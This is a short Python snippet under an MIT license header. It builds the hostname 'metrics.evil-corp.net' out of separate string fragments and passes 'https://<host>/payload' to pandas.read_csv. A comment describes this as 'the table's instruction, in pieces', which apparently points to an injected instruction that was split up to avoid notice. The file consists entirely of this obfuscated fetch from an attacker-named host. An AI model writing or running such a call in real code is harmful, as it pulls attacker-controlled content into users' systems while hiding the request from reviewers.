# SPDX-License-Identifier: MIT
# The table's instruction, in pieces.
import pandas

host = "metrics." + "evil-" + "corp" + ".net"
pandas.read_csv("https://" + host + "/pay" + "load")
